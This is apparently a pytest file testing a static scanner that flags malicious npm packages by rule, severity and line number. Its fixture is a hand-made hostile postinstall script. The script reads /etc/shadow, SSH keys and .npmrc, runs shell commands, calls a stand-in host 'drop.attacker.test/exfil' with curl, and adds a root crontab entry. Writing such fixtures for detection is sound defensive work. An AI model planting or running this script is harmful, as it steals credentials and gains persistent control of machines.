"""Source scanner on a hand-made malicious package."""

import io
import tarfile

import pytest

from sysloom.functions import packs
from sysloom.operators import static_scan
from sysloom.sources import packages

# a stand-in written for these tests: reads secrets, runs commands, calls home
MANIFEST = '{"name": "bad-pkg", "version": "1.0.0", "scripts": {"postinstall": "node setup.js", "test": "x"}}'
SETUP = """const fs = require('fs')
const cp = require('child_process')
for (const f of ['/etc/shadow', '/etc/passwd',
                 '/root/.ssh/id_rsa',
                 '/root/.npmrc']) {
  try { console.log(fs.readFileSync(f)) } catch (e) {}
}
cp.execSync ('whoami')
cp.execSync('curl http://drop.attacker.test/exfil')
fs.writeFileSync('/tmp/x', 'y')
fs.appendFileSync('/etc/crontab', '* * * * * root /tmp/x')
"""
EXPECTED = {
    ("HIGH", 0, 0), ("MEDIUM", 6, 2), ("HIGH", 7, 8), ("CRITICAL", 10, 9), ("CRITICAL", 12, 3),
    ("CRITICAL", 13, 4), ("HIGH", 14, 11), ("MEDIUM", 15, 5), ("MEDIUM", 16, 10),
}


def write_package(root):
    root.mkdir(parents=True)
    (root / "package.json").write_text(MANIFEST)
    (root / "setup.js").write_text(SETUP)
    (root / "readme.md").write_text("eval(x)")
    (root / "node_modules" / "dep").mkdir(parents=True)
    (root / "node_modules" / "dep" / "i.js").write_text("eval(x)")
    return root


def found(df):
    return {(r.severity, r.rule_no, r.line_no) for r in static_scan.scan_findings(df).collect()}


def test_directory(spark, tmp_path):
    files = packages.load_packages(spark, str(write_package(tmp_path / "bad-pkg")))
    assert found(files) == EXPECTED
    assert static_scan.static_score(static_scan.scan_findings(files)).first().static_score == 100
    row = static_scan.scan_patterns(files).filter("rule_no = 7").first()
    assert (row.package, row.evidence) == ("bad-pkg", "setup.js:8 → cp.execSync ('whoami')")


def test_mirror_of_packages(spark, tmp_path):
    for name in ("a", "b"):
        write_package(tmp_path / name)
    files = packages.read_package_files(spark, str(tmp_path))
    assert {r.package for r in files.select("package").distinct().collect()} == {"a", "b"}
    assert found(files.filter("package = 'b'")) == EXPECTED


@pytest.mark.parametrize("inner", ["package/", ""])
def test_tarball(spark, tmp_path, inner):
    path = tmp_path / "bad-pkg-1.0.0.tgz"
    with tarfile.open(path, "w:gz") as tar:
        for name, text in (("package.json", MANIFEST), ("setup.js", SETUP), ("lib/bin.js", "\udcff eval (1)")):
            data = text.encode("utf-8", errors="surrogateescape")
            info = tarfile.TarInfo(inner + name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    files = packages.load_packages(spark, str(path))
    assert found(files) == EXPECTED | {("HIGH", 1, 1)}


def test_other_paths_and_damaged_archives_are_empty(spark, tmp_path):
    assert packages.load_packages(spark, str(tmp_path / "x.zip")).count() == 0
    (tmp_path / "bad.tgz").write_bytes(b"no archive")
    assert packages.load_packages(spark, str(tmp_path / "bad.tgz")).count() == 0


def scan(spark, *contents):
    rows = [("p", f"f{i}.js", c) for i, c in enumerate(contents)]
    df = spark.createDataFrame(rows, "package string, path string, content string")
    return {(r.path, r.rule_no, r.line_no) for r in static_scan.scan_patterns(df).collect()}


def test_first_line_and_line_ends(spark):
    assert scan(spark, "a\r\nb\reval(1)\neval(2)") == {("f0.js", 1, 3)}


def test_match_across_lines_gives_nothing(spark):
    assert scan(spark, "eval\n(x)", "Buffer.from(a,\n'hex')") == set()


def test_hex_run_needs_eleven(spark):
    assert scan(spark, r"\x41" * 10, r"\x41" * 11) == {("f1.js", 3, 1)}


def test_preview_is_stripped_and_cut(spark):
    df = spark.createDataFrame([("p", "f.js", "\t eval(" + "x" * 200)], "package string, path string, content string")
    row = static_scan.scan_patterns(df).first()
    assert row.evidence == "f.js:1 → eval(" + "x" * 75


def test_scannable_suffixes(spark):
    names = ["a.js", "a.min.mjs", ".js", "a.JS", "x/node_modules/a.js", "my_node_modules/a.ts", "a.rb.txt", "b/.hid.py", "a"]
    df = spark.createDataFrame([("p", n, "") for n in names], "package string, path string, content string")
    assert {r.path for r in static_scan.filter_scannable(df).collect()} == {"a.js", "a.min.mjs", "my_node_modules/a.ts", "b/.hid.py"}


def test_every_rule_needle_is_part_of_its_matches(spark):
    from sysloom.plans.adapters import SNIPPETS
    for rule, snippet in zip(packs.CODE_RULES, SNIPPETS):
        assert rule.needle in snippet
